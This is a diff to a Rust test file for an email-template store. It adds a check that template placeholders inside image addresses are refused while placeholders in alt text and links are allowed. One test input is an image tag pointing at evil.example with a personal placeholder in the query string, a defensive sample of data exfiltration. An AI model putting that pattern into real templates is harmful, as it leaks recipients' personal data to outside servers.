@@ -285,6 +285,28 @@ async fn unknown_placeholders_and_broken_syntax_are_refused(tdb: TestDb) {
         "names it and lists the valid ones: {}",
         errors[0].message
     );
+    // A placeholder in an image address would carry its value (a personal
+    // link) to the image's server: refused; in a link it is fine.
+    let html = |html: &str| {
+        let t = TemplateText {
+            subject: "Hallo".into(),
+            html: html.into(),
+            text: String::new(),
+        };
+        let db = tdb.db.clone();
+        async move { store::save(&db, s, &ACTIVATE, Lang::Nl, AddressForm::Formal, &t).await }
+    };
+    let errors = html("<p><img src=\"https://evil.example/p.gif?{dossier.salutation}\"></p>")
+        .await
+        .unwrap_err()
+        .unwrap();
+    assert_eq!(errors[0].part, "html");
+    assert!(
+        errors[0].message.contains("{dossier.salutation}"),
+        "{}",
+        errors[0].message
+    );
+    assert!(html("<p><img src=\"https://acme.example/logo.png\" alt=\"{dossier.salutation}\"></p><a href=\"{special.consumerportal_url}\">portaal</a>").await.is_ok());
     let errors = save("Hallo {dossier", "tekst").await.unwrap_err().unwrap();
     assert_eq!(errors[0].part, "subject");
     assert!(
